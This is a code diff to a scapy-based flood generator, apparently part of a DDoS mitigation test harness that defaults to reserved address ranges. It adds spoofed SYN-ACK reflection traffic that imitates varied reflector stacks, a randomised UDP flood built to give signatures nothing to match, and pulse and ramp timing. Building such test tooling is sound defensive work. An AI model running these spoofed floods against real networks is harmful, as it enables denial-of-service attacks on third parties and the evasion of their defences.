@@ -32,7 +32,17 @@ ATTACKER_SOURCE_V4 = "192.0.2.130"   # the attacker's real address, for --spoof 
 ATTACKER_SOURCE_V6 = "2001:db8:fffe::10"
 
 REFLECTION_PORTS = {"dns": 53, "ntp": 123, "ssdp": 1900, "memcached": 11211, "cldap": 389, "chargen": 19}
-VECTORS = ("syn", "ack", "rst", "udp", *REFLECTION_PORTS, "icmp", "frag", "carpet", "multi")
+RANDOM_SIZES = 16                 # distinct datagram sizes a udp-random stream rotates through
+RANDOM_SIZE_RANGE = (64, MTU)     # bytes (IP datagram) of those sizes: never fragmented
+TCP_REFLECTOR_PORTS = (80, 443)   # source ports of reflected SYN-ACKs (web servers answering spoofed SYNs)
+# What differs between the reflectors of a SYN-ACK reflection: their stacks' options (so the
+# length: 44, 52 and 60 bytes) and their distance (the TTL left: Linux 64 and Windows 128 minus hops).
+REFLECTOR_OPTIONS = ([("MSS", 1460)],
+                     [("MSS", 1460), ("SAckOK", b""), ("WScale", 7)],
+                     [("MSS", 1460), ("SAckOK", b""), ("Timestamp", (1, 1)), ("WScale", 7)])
+REFLECTOR_TTLS = (46, 51, 57, 109, 115, 121)
+VECTORS = ("syn", "ack", "rst", "synack", "udp", "udp-random", *REFLECTION_PORTS, "icmp", "frag", "carpet",
+           "multi")
 MULTI_DEFAULT = ("syn", "udp", "dns", "ntp", "icmp")
 
 
@@ -49,6 +59,8 @@ class AttackSpec:
     size: int | None = None         # IP datagram bytes; None = the vector's realistic size
     spoof: str | None = None        # CIDR of spoofed sources; None = 198.18.0.0/15 (v4) or SPOOF_V6; "off"
     vectors: tuple[str, ...] = MULTI_DEFAULT   # for "multi"
+    pulse: tuple[float, float] | None = None   # (on, off) seconds: a pulse wave; None = steady
+    ramp: float | None = None       # seconds from 0 to --pps (linear), then steady; None = full rate at once
 
     def validate(self) -> None:
         if self.vector not in VECTORS:
@@ -62,6 +74,12 @@ class AttackSpec:
                 raise ValueError(f"--{name} must be 1..65535, got {port}")
         if self.size is not None and not 28 <= self.size <= 9000:
             raise ValueError(f"--size must be 28..9000 bytes (IP datagram), got {self.size}")
+        if self.pulse is not None and (len(self.pulse) != 2 or min(self.pulse) <= 0):
+            raise ValueError(f"--pulse must be ON,OFF with both > 0 seconds, got {self.pulse}")
+        if self.ramp is not None and self.ramp <= 0:
+            raise ValueError(f"--ramp must be > 0 seconds, got {self.ramp}")
+        if self.pulse is not None and self.ramp is not None:
+            raise ValueError("--pulse and --ramp cannot be combined")
         if self.vector == "multi":
             bad = [v for v in self.vectors if v not in VECTORS or v in ("multi", "carpet")]
             if bad or not self.vectors:
@@ -286,10 +304,12 @@ class TemplateBuilder:
             return streams
         if spec.vector == "carpet":
             return self._udp("carpet")
-        if spec.vector in ("syn", "ack", "rst"):
+        if spec.vector in ("syn", "ack", "rst", "synack"):
             return self._tcp(spec.vector)
         if spec.vector == "udp":
             return self._udp("udp")
+        if spec.vector == "udp-random":
+            return self._udp_random()
         if spec.vector in REFLECTION_PORTS:
             return self._reflection(spec.vector)
         if spec.vector == "icmp":
@@ -315,24 +335,33 @@ class TemplateBuilder:
 
     def _tcp(self, vector: str) -> list[Stream]:
         from scapy.layers.inet import TCP  # noqa: PLC0415
-        dport = self.spec.dport or HTTP_PORT
+        # Reflected SYN-ACKs come from a reflector's service port to the victim's random ports
+        # (the ports the attacker put in its spoofed SYNs); the others target a service.
+        reflected = vector == "synack"
+        dport = self.spec.dport or (40000 if reflected else HTTP_PORT)
         sport = self.spec.sport or 40000
         variants = {"syn": [("S", [("MSS", 1460), ("SAckOK", b""), ("WScale", 7)])],
                     "ack": [("A", [])],
-                    "rst": [("R", []), ("FA", [])]}[vector]
+                    "rst": [("R", []), ("FA", [])],
+                    "synack": [("SA", [("MSS", 1460), ("SAckOK", b""), ("WScale", 7)])]}[vector]
         streams = []
         for flags, options in variants:
             frames = []
-            for dst, server in self.targets:
-                l3 = self._ip(dst)
-                packet = l3 / TCP(sport=sport, dport=dport, flags=flags, seq=1, ack=0 if "A" not in flags else 1,
-                                  window=64240, options=options)
-                packet = self._pad(packet, 0)
-                frames.append(bytes(self._eth(server) / packet))
+            # Reflected: one template per reflector kind (port, options, distance), rotated through.
+            kinds = ([(p, o, t) for p in ((self.spec.sport,) if self.spec.sport else TCP_REFLECTOR_PORTS)
+                      for o in REFLECTOR_OPTIONS for t in REFLECTOR_TTLS] if reflected else [(sport, options, 57)])
+            for port, opts, ttl in kinds:
+                for dst, server in self.targets:
+                    l3 = self._ip(dst, ttl=ttl)
+                    packet = l3 / TCP(sport=port, dport=dport, flags=flags, seq=1,
+                                      ack=0 if "A" not in flags else 1, window=64240, options=opts)
+                    packet = self._pad(packet, 0)
+                    frames.append(bytes(self._eth(server) / packet))
             edits = _frame_edits(frames[0], self.version, "tcp", spoof=self.spoof_bits > 0,
                                  spoof_bits=self.spoof_bits,
-                                 random_sport=None if self.spec.sport else EPHEMERAL_PORTS,
-                                 random_dport=None, random_seq=True)
+                                 random_sport=None if self.spec.sport or reflected else EPHEMERAL_PORTS,
+                                 random_dport=EPHEMERAL_PORTS if reflected and not self.spec.dport else None,
+                                 random_seq=True)
             streams.append(Stream(vector, tuple(frames), edits, weight=1.0 / len(variants)))
         return streams
 
@@ -344,6 +373,32 @@ class TemplateBuilder:
                                  b"", default_size,
                                  random_sport=None if self.spec.sport else EPHEMERAL_PORTS,
                                  random_dport=random_dport)
+
+    def _udp_random(self) -> list[Stream]:
+        """UDP with random destination ports and sizes: no port or length for a signature to key on.
+
+        Sizes: RANDOM_SIZES fixed draws (seeded, so runs repeat) within RANDOM_SIZE_RANGE, one template
+        per size and target, random bytes as payload; the generator rotates through the templates."""
+        import random  # noqa: PLC0415
+
+        from scapy.layers.inet import UDP  # noqa: PLC0415
+        from scapy.packet import Raw  # noqa: PLC0415
+        if self.spec.size is not None:
+            raise ValueError("udp-random: sizes are random; drop --size")
+        draw = random.Random(0x5eed)
+        hlen = (IPV4_HLEN if self.version == 4 else IPV6_HLEN) + UDP_HLEN
+        sizes = sorted(draw.randrange(max(RANDOM_SIZE_RANGE[0], hlen + 1), RANDOM_SIZE_RANGE[1] + 1)
+                       for _ in range(RANDOM_SIZES))
+        frames = []
+        for size in sizes:
+            for dst, server in self.targets:
+                udp = UDP(sport=self.spec.sport or 40000, dport=self.spec.dport or GAME_PORT)
+                packet = self._ip(dst) / udp / Raw(draw.randbytes(size - hlen))
+                frames.append(bytes(self._eth(server) / packet))
+        edits = _frame_edits(frames[0], self.version, "udp", spoof=self.spoof_bits > 0, spoof_bits=self.spoof_bits,
+                             random_sport=None if self.spec.sport else EPHEMERAL_PORTS,
+                             random_dport=None if self.spec.dport else (1, 65535), random_seq=False)
+        return [Stream("udp-random", tuple(frames), edits)]
 
     def _reflection(self, vector: str) -> list[Stream]:
         from scapy.layers.inet import UDP  # noqa: PLC0415
@@ -452,4 +507,8 @@ class AttackProcess(JsonLinesProcess):
                 argv += [flag, str(value)]
         if spec.vector == "multi":
             argv += ["--vectors", ",".join(spec.vectors)]
+        if spec.pulse is not None:
+            argv += ["--pulse", ",".join(str(s) for s in spec.pulse)]
+        if spec.ramp is not None:
+            argv += ["--ramp", str(spec.ramp)]
         super().__init__(argv, name=f"attack-{spec.vector}")
